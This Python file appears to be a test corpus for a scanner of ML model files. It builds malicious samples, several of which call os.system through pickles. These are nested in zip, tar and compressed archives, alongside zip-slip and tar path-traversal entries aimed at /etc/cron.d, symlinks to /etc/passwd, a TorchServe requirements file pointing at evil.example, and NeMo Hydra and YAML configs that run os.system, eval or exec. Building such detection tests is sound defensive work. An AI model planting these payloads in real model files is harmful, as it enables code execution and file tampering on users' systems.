"""Attacks in archives: nesting, escaping paths, links, TorchServe and NeMo packages."""

# ruff: noqa: E501  # a table: one technique stays on one line where it can

from __future__ import annotations

import bz2
import gzip
import json
import lzma
import tarfile

from tests.corpus.containers import npy
from tests.corpus.opcodes import call, program, value
from tests.corpus.payload import MARK, SHELL, SOURCE
from tests.corpus.technique import table
from tests.corpus.torch_archives import checkpoint, data, tarred
from tests.corpus.zips import Member, archive, folder

EVIL = program(value({"weight": 1, "x": call("os:system", SHELL)}))


def special(name: str, kind: bytes, target: str) -> tarfile.TarInfo:
    """A link, or another entry that is no file."""
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname = kind, target
    return entry


def _pax(name: str) -> bytes:
    entry = tarfile.TarInfo("short")
    entry.pax_headers = {"path": name}
    return tarred({}, entry)


HANDLER = f"{SOURCE}\ndef handle(data, context):\n    return data\n".encode()
MANIFEST = json.dumps(
    {"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "handler.py"}}
).encode()
HYDRA = f"model:\n  _target_: os.system\n  _args_: ['touch {MARK}']\n".encode()

table("nested-archives", "models.zip", "", {
    "pickle-in-zip": folder({"m.pkl": EVIL}),
    "deflated-pickle": folder({"m.pkl": EVIL}, deflate=True),
    "zip-in-zip": folder({"a.zip": folder({"m.pkl": EVIL}, deflate=True)}, deflate=True),
    "three-zips": folder({"a.zip": folder({"b.zip": folder({"m.pkl": EVIL})})}),
    "tar-gz-in-zip": lambda: folder({"a.tar.gz": gzip.compress(tarred({"m.pkl": EVIL}))}),
    "torch-in-zip": folder({"m.pt": checkpoint(data())}),
    "npy-in-zip": folder({"m.npy": npy(EVIL)}),
    "unnamed-pickle": folder({"blob": EVIL}),
    "zip-slip": archive(Member("../../evil.py", SOURCE.encode())),
    "zip-slip-absolute": archive(Member("/etc/cron.d/evil", b"x")),
    "zip-slip-backslash": archive(Member("..\\..\\evil.py", SOURCE.encode())),
    "zip-slip-drive": archive(Member("C:\\Windows\\evil.dll", b"x")),
    "zip-slip-inside": archive(Member("a/../../evil.py", SOURCE.encode())),
    "zip-symlink": archive(Member("link", b"../../etc", attributes=0o120777 << 16)),
    "not-in-directory": archive(Member("a.txt", b"hello"), Member("m.pkl", EVIL), in_directory=1),
    "name-mismatch": archive(Member("a.txt", EVIL, local_name="m.pkl")),
    "duplicate-names": archive(Member("m.pkl", EVIL), Member("m.pkl", program(value(1)))),
})  # fmt: skip
table("nested-archives", "models.tar", "untar", {
    "tar-parent": lambda: tarred({f"../{MARK}": b"x"}),
    "tar-symlink-then-file": lambda: tarred({f"a/{MARK}": b"x"}, special("a", tarfile.SYMTYPE, "..")),
    "tar-parent-inside": lambda: tarred({"a/x": b"", f"a/../../{MARK}": b"x"}),
    "tar-pax-path": lambda: _pax(f"../{MARK}"),
})  # fmt: skip
table("nested-archives", "models.tar", "", {
    "tar-absolute": lambda: tarred({"/etc/cron.d/evil": b"x"}),
    "tar-hard-link": lambda: tarred({}, special("a", tarfile.LNKTYPE, "../../etc/passwd")),
    "tar-symlink-absolute": lambda: tarred({}, special("a", tarfile.SYMTYPE, "/etc/passwd")),
    "tar-device": lambda: tarred({}, special("a", tarfile.CHRTYPE, "")),
    "pickle-in-tar": lambda: tarred({"m.pkl": EVIL}),
    "pickle-in-tar-unnamed": lambda: tarred({"weights": EVIL}),
})  # fmt: skip
for _suffix, _press in {"gz": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}.items():
    table("nested-archives", f"models.tar.{_suffix}", "", {
        f"pickle-in-tar-{_suffix}": lambda press=_press: press(tarred({"m.pkl": EVIL})),
        f"slip-in-tar-{_suffix}": lambda press=_press: press(tarred({"../evil": b"x"}))})  # fmt: skip
    table(
        "nested-archives",
        f"model.pkl.{_suffix}",
        "",
        {f"pickle-in-{_suffix}": lambda press=_press: press(EVIL)},
    )
table("nested-archives", "model.gz", "", {"gz-in-gz": lambda: gzip.compress(gzip.compress(EVIL))})
table("nested-archives", "weights.7z", "", {"seven-zip": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + EVIL})

table("torchserve", "model.mar", "", {
    "handler": folder({"MAR-INF/MANIFEST.json": MANIFEST, "handler.py": HANDLER, "m.pt": checkpoint(data(program(value(1))))}),
    "pickle": folder({"MAR-INF/MANIFEST.json": MANIFEST, "handler.py": b"def handle(d, c):\n    return d\n", "m.pt": checkpoint(data())}),
    "requirements": folder({"MAR-INF/MANIFEST.json": json.dumps({"model": {"requirementsFile": "r.txt"}}).encode(),
                            "r.txt": b"--index-url http://evil.example/simple\nevil-package\n"}),
})  # fmt: skip
table("nemo", "model.nemo", "nemo", {
    "hydra-target": lambda: tarred({"./model_config.yaml": HYDRA, "./model_weights.ckpt": checkpoint(data(program(value(1))))}),
    "hydra-target-gz": lambda: gzip.compress(tarred({"model_config.yaml": HYDRA})),
    "hydra-eval": lambda: tarred({"model_config.yaml": b"a: {_target_: builtins.eval, _args_: [\"open('hauberk-mark','w')\"]}"}),
    "hydra-exec-deep": lambda: tarred({"model_config.yaml": b"a: {b: [{c: {_target_: builtins.exec, _args_: [\"open('hauberk-mark','w')\"]}}]}"}),
}, needs=("yaml",))  # fmt: skip
table("nemo", "model.nemo", "", {
    "weights-pickle": lambda: tarred({"model_config.yaml": b"a: 1\n", "model_weights.ckpt": checkpoint(data())}),
    "weights-pickle-legacy": lambda: tarred({"model_config.yaml": b"a: 1\n", "model_weights.ckpt": EVIL}),
    "slip": lambda: tarred({"model_config.yaml": b"a: 1\n", "../../evil": b"x"}),
    "link": lambda: tarred({"model_config.yaml": b"a: 1\n"}, special("w", tarfile.SYMTYPE, "/etc/passwd")),
    "yaml-object": lambda: tarred({"model_config.yaml": b"a: !!python/object/apply:os.system [id]\n"}),
})  # fmt: skip
